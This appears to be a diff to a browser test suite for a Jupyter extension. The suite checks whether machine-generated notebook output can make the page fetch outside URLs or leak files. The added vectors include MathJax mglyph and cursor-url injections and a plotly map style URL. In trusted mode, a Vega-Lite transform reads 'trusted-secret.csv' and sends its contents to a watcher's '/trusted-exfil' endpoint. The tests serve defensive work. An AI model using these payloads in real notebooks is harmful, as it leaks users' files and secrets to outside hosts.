@@ -194,11 +194,23 @@ show(**{'application/vnd.plotly.v1+json': {
     'layout': {'images': [{'source': W + '/plotly-image', 'xref': 'paper', 'yref': 'paper', 'x': 0, 'y': 1,
                            'sizex': 0.5, 'sizey': 0.5}],
                'annotations': [{'text': '<span style="cursor: url(' + W + '/plotly-text), auto">note</span>', 'x': 'a', 'y': 3}]}}})
+# MathJax, which JupyterLab runs over HTML outputs, fetches from TeX (third audit)
+MATH = r'$\\mmlToken{mglyph}[src="' + W + r'/%s"]{}$ and $\\style{cursor:url(' + W + r'/%s-cursor),auto}{x}$'
+show(**{'text/html': '<p>' + MATH % ('mj-html', 'mj-html') + '</p><span class="tex2jax_process mathjax_process">'
+        + MATH % ('mj-process', 'mj-process') + '</span>'})
+show(**{'text/markdown': 'md ' + MATH % ('mj-md', 'mj-md')})
+show(**{'application/vnd.plotly.v1+json': {'data': [{'type': 'scattermap', 'subplot': 'map2', 'lat': [0], 'lon': [0]}],
+                                           'layout': {'map2': {'style': W + '/plotly-map2-style'}}}})
+'''
+# a fork's Out[n] table holds each branch's error text, which the machine chose
+FETCH_FORK = '''%%smol fork 2 --allow-errors
+raise ValueError(MATH % ('mj-fork', 'mj-fork'))
 '''
 FETCH_TRUSTED = '''%%smol
 T = dict(LEAK, data={'url': 'trusted-secret.csv', 'format': {'type': 'csv'}},
          transform=[{'calculate': "'" + W + "/trusted-exfil?d=' + datum.d", 'as': 'u'}])
 show(**{'application/vnd.vegalite.v5+json': T, 'text/plain': 'vega-lite'})
+show(**{'text/html': '<p>' + MATH % ('trusted-mj', 'trusted-mj') + '</p>'})
 '''
 
 
@@ -208,7 +220,8 @@ def fetch_lab(tmp_path: Path, watched: tuple[int, list[str]]) -> Iterator[tuple[
     for name in ("secret.txt", "trusted-secret.csv"):
         (tmp_path / name).write_text("d\nthe-users-secret\n")
     cells = ["%load_ext smolbench", "%smol down\n%smol up --backend sandbox", FETCH_SETUP.replace("{port}", str(port_w)),
-             FETCH_VECTORS, "print('ALL' + ' DONE')", "%smol trust on", FETCH_TRUSTED, "print('TRUSTED' + ' DONE')"]
+             FETCH_VECTORS, FETCH_FORK, "print('ALL' + ' DONE')", "%smol trust on", FETCH_TRUSTED,
+             "print('TRUSTED' + ' DONE')"]
     write_notebook(tmp_path / "fetch.ipynb", cells)
     with jupyter_server(tmp_path, "lab") as (base, token):
         yield notebook_url(base, token, "lab", "fetch.ipynb"), hits, len(cells)
@@ -279,13 +292,14 @@ def test_machine_output_cannot_fetch_or_restyle_the_page_in_jupyterlab(
             # Weakened: trusted mode renders the Vega-Lite spec, which reads the file next to the
             # notebook through the Jupyter server (with the user's cookies) and sends it out
             expect(page.locator(".jp-OutputArea-output", has_text="TRUSTED DONE")).to_be_visible(timeout=90_000)
-            trusted = page.locator(".jp-Notebook .jp-Cell").nth(6)
+            trusted = page.locator(".jp-Notebook .jp-Cell").nth(7)
             trusted.scroll_into_view_if_needed()
             deadline = time.monotonic() + 30
-            while not any("trusted-exfil" in h for h in hits) and time.monotonic() < deadline:
+            while not ({"/trusted-exfil?d=the-users-secret", "/trusted-mj"} <= set(hits)) and time.monotonic() < deadline:
                 time.sleep(0.2)
             assert any("trusted-secret.csv" in u for u in requests)
             assert "/trusted-exfil?d=the-users-secret" in hits, hits
+            assert "/trusted-mj" in hits, hits  # MathJax is on in this JupyterLab: without the gate's wrapper it fetches
         except BaseException:
             with contextlib.suppress(Exception):
                 page.screenshot(path=str(ARTIFACTS / "fetch_failure.png"), timeout=10_000)
